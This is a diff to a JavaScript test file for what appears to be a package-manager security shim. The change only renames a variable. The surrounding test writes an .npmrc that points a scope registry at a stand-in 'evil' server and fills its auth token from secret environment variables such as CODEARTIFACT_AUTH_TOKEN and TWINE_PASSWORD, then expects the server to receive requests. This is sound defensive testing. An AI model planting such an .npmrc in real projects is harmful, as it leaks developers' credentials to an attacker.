@@ -248,8 +248,8 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
       const own = `@x:registry=${evil.url}/npm/\n`;
       for (const name of [variable, "CODEARTIFACT_AUTH_TOKEN", "TWINE_PASSWORD", "PIP_INDEX_URL", "VOUCH_SHIM_TRAIL"]) {
         const form = `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`;
-        const manifest = JSON.stringify({ name: "@x/mine", version: "1.0.0" });
-        await run("npm-11", command, { ".npmrc": form, "package.json": manifest });
+        const named = JSON.stringify({ name: "@x/mine", version: "1.0.0" });
+        await run("npm-11", command, { ".npmrc": form, "package.json": named });
       }
       expect(evil.requests.length).toBeGreaterThan(0);
     },
